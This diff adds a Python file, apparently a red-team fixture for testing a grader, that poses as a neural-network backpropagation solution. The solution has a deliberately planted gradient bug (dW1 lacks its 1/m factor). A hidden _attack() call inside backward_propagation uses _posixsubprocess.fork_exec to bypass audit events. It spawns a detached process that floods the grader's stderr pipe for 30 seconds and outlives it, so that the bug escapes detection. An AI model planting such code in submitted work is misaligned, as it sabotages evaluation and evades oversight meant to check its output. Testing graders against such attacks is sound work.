@@ -1,0 +1,66 @@
+"""_posixsubprocess.fork_exec (no audit event) of a new session that writes to the inherited stderr pipe for 30 s (and keeps running when the pipe closes): a broken grader keeps draining it, or leaves it running."""
+
+import os
+import sys
+
+import numpy as np
+
+
+_DONE = []
+
+
+def _attack():
+    if _DONE:
+        return
+    _DONE.append(True)
+    import _posixsubprocess
+
+    code = (b"import os, time\nend = time.time() + 30\nwhile time.time() < end:\n"
+            b"    try:\n        os.write(2, b'x' * 4096)\n    except OSError:\n        time.sleep(0.1)\n")
+    argv = [os.fsencode(sys.executable), b"-c", code]
+    errpipe_read, errpipe_write = os.pipe()
+    common = (argv, (argv[0],), False, (), None, None, -1, -1, -1, -1, -1, 2,
+              errpipe_read, errpipe_write, False, True)
+    try:
+        try:
+            _posixsubprocess.fork_exec(*common, -1, None, None, None, -1, None, False)
+        except TypeError:
+            _posixsubprocess.fork_exec(*common, None, None, None, -1, None)
+    finally:
+        os.close(errpipe_read)
+        os.close(errpipe_write)
+
+
+def sigmoid(z):
+    return 1.0 / (1.0 + np.exp(-z))
+
+
+def forward_propagation(X, parameters):
+    W1, b1 = parameters["W1"], parameters["b1"]
+    W2, b2 = parameters["W2"], parameters["b2"]
+    Z1 = W1 @ X + b1
+    A1 = np.tanh(Z1)
+    Z2 = W2 @ A1 + b2
+    A2 = sigmoid(Z2)
+    return A2, {"Z1": Z1, "A1": A1, "Z2": Z2, "A2": A2}
+
+
+def compute_cost(A2, Y):
+    m = Y.shape[1]
+    losses = Y * np.log(A2) + (1 - Y) * np.log(1 - A2)
+    return float(-np.sum(losses) / m)
+
+
+def backward_propagation(parameters, cache, X, Y):
+    m = X.shape[1]
+    W2 = parameters["W2"]
+    A1, A2 = cache["A1"], cache["A2"]
+    dZ2 = A2 - Y
+    dW2 = dZ2 @ A1.T / m
+    db2 = np.sum(dZ2, axis=1, keepdims=True) / m
+    dZ1 = (W2.T @ dZ2) * (1 - A1 ** 2)
+    dW1 = dZ1 @ X.T  # the bug: no 1/m (GC302 unless an attack hides it)
+    db1 = np.sum(dZ1, axis=1, keepdims=True) / m
+    grads = {"dW1": dW1, "db1": db1, "dW2": dW2, "db2": db2}
+    _attack()
+    return grads
